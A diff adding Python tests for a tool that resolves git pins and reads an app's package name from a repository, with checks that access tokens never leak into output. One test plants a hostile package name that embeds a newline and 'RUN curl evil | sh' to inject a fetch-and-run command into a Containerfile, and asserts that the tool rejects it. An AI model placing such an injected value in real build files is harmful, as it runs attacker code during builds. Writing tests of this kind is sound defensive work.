@@ -319,3 +319,65 @@ def test_a_token_placeholder_in_the_url_path_never_reaches_argv(git_http_server,
     (result,) = resolve_pins([Pin.at("app", url, "v15.17.0")], ENV, timeout=10.0)
     assert result.error_kind == "bad-url" and CANARY_TOKEN not in (result.error or "")
     assert git_http_server.requests == []  # git never ran
+
+
+# ---------------------------------------------------------------- the app's name (issue 18 item 7)
+
+MY_APP_FILES = {
+    "pyproject.toml": '[project]\nname = "my_app"\nversion = "1.0.0"\n',
+    "setup.py": 'from setuptools import setup\nsetup(name="not_this_one")\n',
+    "my_app/hooks.py": 'app_name = "my_app"\n',
+    "my_app/__init__.py": '__version__ = "1.0.0"\n',
+    "docs/readme.txt": "no hooks here\n",
+}
+
+
+def _my_app(root: Path) -> Remote:
+    """A repository named my-app holding the package my_app, tagged v1.0.0 (annotated)."""
+    remote = make_remote(root, "my-app", tags=(), annotated=(), branches=())
+    remote.commit_files("the app", MY_APP_FILES)
+    remote.tag("v1.0.0", annotated=True)
+    remote.commit_files("renamed later", {"pyproject.toml": '[project]\nname = "renamed"\n'})
+    git("config", "uploadpack.allowFilter", "true", cwd=remote.bare)  # a blobless fetch, as on GitHub
+    return remote
+
+
+def test_the_app_name_is_read_at_the_resolved_commit_over_http_with_a_token(
+    tmp_path: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    remote = _my_app(tmp_path / "remotes")
+    with GitHTTPServer(remote.bare.parent, tokens=[CANARY_TOKEN]) as server:
+        url = server.url("my-app.git", "${" + TOKEN_VAR + "}")
+        tag, main = resolve_pins(
+            [Pin.at("my-app", url, "v1.0.0", read_name=True), Pin.at("my-app", url, "main", read_name=True)],
+            ENV,
+            timeout=10,
+        )
+        assert server.rejected == 0
+        # a server that speaks only protocol v0: no fetch by commit or by blob id, the tag instead
+        server.protocol_v0_only = True
+        found = gitremote.read_app_files(url, ENV, TOKEN_VAR, remote.tags["v1.0.0"], "v1.0.0", 10)
+    assert (tag.error, tag.name, tag.sha, tag.is_tag) == (None, "my_app", remote.tags["v1.0.0"], True)
+    assert tag.shown_name == "my_app (my-app)"
+    assert (main.name, main.is_tag) == ("renamed", False)  # the name at each pin's own commit
+    assert found.files["pyproject.toml"] == MY_APP_FILES["pyproject.toml"].rstrip("\n")
+    assert set(found.files) == {"pyproject.toml", "setup.py"} and found.hooks_folders == ("my_app",)
+    captured = capfd.readouterr()
+    for form in CANARY_FORMS:
+        assert form not in captured.out + captured.err + str(tag) + str(main)
+
+
+def test_a_repository_naming_no_valid_package_is_an_error_naming_the_fix(tmp_path: Path) -> None:
+    remote = make_remote(tmp_path / "remotes", "my-app", tags=("v1.0.0",), annotated=(), branches=())
+    (result,) = resolve_pins([Pin.at("my-app", remote.url, "v1.0.0", read_name=True)], {}, timeout=10)
+    assert result.sha == remote.tags["v1.0.0"] and not result.ok
+    assert result.error_kind == "app-name"
+    assert result.error is not None and result.error.startswith(
+        "the app name of my-app at v1.0.0 (its URL (no pyproject.toml, setup.cfg or setup.py name)) "
+        "'my-app' is not a Python package name"
+    )
+    # a name that would break out of a Containerfile line, read from the repository
+    remote.commit_files("hostile", {"pyproject.toml": '[project]\nname = "x\\nRUN curl evil | sh"\n'})
+    (hostile,) = resolve_pins([Pin.at("my-app", remote.url, "main", read_name=True)], {}, timeout=10)
+    assert hostile.error_kind == "app-name" and "\n" not in str(hostile.error)
+    assert "is not a Python package name" in str(hostile.error)
